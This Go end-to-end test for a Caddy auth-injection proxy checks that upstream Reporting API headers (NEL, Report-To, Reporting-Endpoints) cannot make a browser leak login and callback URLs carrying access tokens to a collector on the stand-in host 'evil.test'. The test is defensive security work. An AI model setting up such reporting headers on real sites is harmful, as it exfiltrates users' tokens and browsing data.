package connect

import (
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/authinject/caddy-authinject/e2e/harness"
	"github.com/authinject/caddy-authinject/internal/rig"
	"github.com/authinject/caddy-authinject/tokensource/tokensourcetest"
)

// collector receives the reports that browsers send about requests.
type collector struct {
	*httptest.Server
	mu   sync.Mutex
	urls []string
}

func startCollector(t *testing.T, ca *harness.Authority) *collector {
	t.Helper()
	c := new(collector)
	c.Server = ca.Server(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "Content-Type")
		var reports []struct{ URL string }
		body, err := io.ReadAll(r.Body)
		if err != nil || r.Method == http.MethodPost && json.Unmarshal(body, &reports) != nil {
			t.Errorf("an unreadable report: %v %s", err, body)
		}
		c.mu.Lock()
		defer c.mu.Unlock()
		for _, report := range reports {
			c.urls = append(c.urls, report.URL)
		}
	}), "evil.test")
	return c
}

// about returns the URLs of the reports that contain text.
func (c *collector) about(text string) (urls []string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, url := range c.urls {
		if strings.Contains(url, text) {
			urls = append(urls, url)
		}
	}
	return urls
}

// An upstream's header fields cannot make the browser report requests to the proxy's origin to the
// upstream; such a report would show the answer to another source's login. If the operator sets
// these fields on the site, the browser does report, until it opens the connect page.
func TestNoReportsOfLogins(t *testing.T) {
	t.Parallel()
	ca := harness.CA(t)
	cert, key := encode(t, ca.Certificate(t, "proxy.test", "evil.test"))
	collector := startCollector(t, ca)
	collectorURL := strings.Replace(collector.URL, "127.0.0.1", "evil.test", 1)
	fields := map[string]string{
		"NEL":                 `{"report_to":"c","max_age":3600,"success_fraction":1.0,"failure_fraction":1.0}`,
		"Report-To":           `{"group":"c","max_age":3600,"endpoints":[{"url":"` + collectorURL + `"}]}`,
		"Reporting-Endpoints": `c="` + collectorURL + `"`,
	}
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for name, value := range fields {
			w.Header().Set(name, value)
		}
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, `<!DOCTYPE html><link rel=icon href="data:,"><title>an upstream's</title>`)
	}))
	defer upstream.Close()
	run := func(host, front string) (*tokensourcetest.Provider, string) {
		emu := tokensourcetest.StartProvider(t, tokensourcetest.Tiltify, tokensourcetest.ProviderConfig{})
		p := startBeside(t, emu, upstream.URL, "https://"+host+":{$PORT}", "bind 127.0.0.1\ntls {$DIR}/cert.pem "+
			"{$DIR}/key.pem\n"+front,
			harness.File("cert.pem", cert), harness.File("key.pem", key))
		home := strings.Replace(p.URL, "http://127.0.0.1", "https://"+host, 1)
		emu.SetRedirectURIs(home + "/connect/callback")
		return emu, home
	}
	_, guarded := run("proxy.test", "")
	front := "@upstream not path /connect*\n"
	for name, value := range fields {
		front += "header @upstream >" + name + " `" + value + "`\n"
	}
	_, control := run("localhost", front)

	// Policies on reports count only where certificates are trusted, not where errors are ignored.
	ctx, end, err := launch(chromedp.Flag("ignore-certificate-errors-spki-list", fingerprint(t, ca)),
		chromedp.Flag("short-reporting-delay", true))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(end)
	page := newTab(ctx, t)
	t.Cleanup(page.report)

	page.open(guarded + "/")
	connected := &connectPage{page, guarded + "/connect"}
	connected.Open()
	connected.Row("connected").Connect()
	page.open(guarded + "/connect/callback?access_token=guarded")
	page.open(guarded + "/after")

	page.open(control + "/first")
	page.open(control + "/second")
	rig.Eventually(t, func() bool { return len(collector.about("/second")) > 0 }, "a report where the operator wants them")

	page.open(control + "/connect")
	page.open(control + "/connect/callback?access_token=control")
	page.open(control + "/third")
	page.open(control + "/fourth")
	rig.Eventually(t, func() bool { return len(collector.about("/fourth")) > 0 }, "a report after the page was shown")
	if got := collector.about("/connect"); len(got) > 0 {
		t.Errorf("the collector was told of %q", got)
	}
	if got := collector.about(guarded); len(got) > 0 {
		t.Errorf("an upstream made the browser report %q", got)
	}
}

// fingerprint is how a browser names the key of an authority (RFC 7469 section 2.4).
func fingerprint(t *testing.T, ca *harness.Authority) string {
	t.Helper()
	text, err := os.ReadFile(ca.File)
	if err != nil {
		t.Fatal(err)
	}
	block, _ := pem.Decode(text)
	cert, err := x509.ParseCertificate(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(cert.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(sum[:])
}
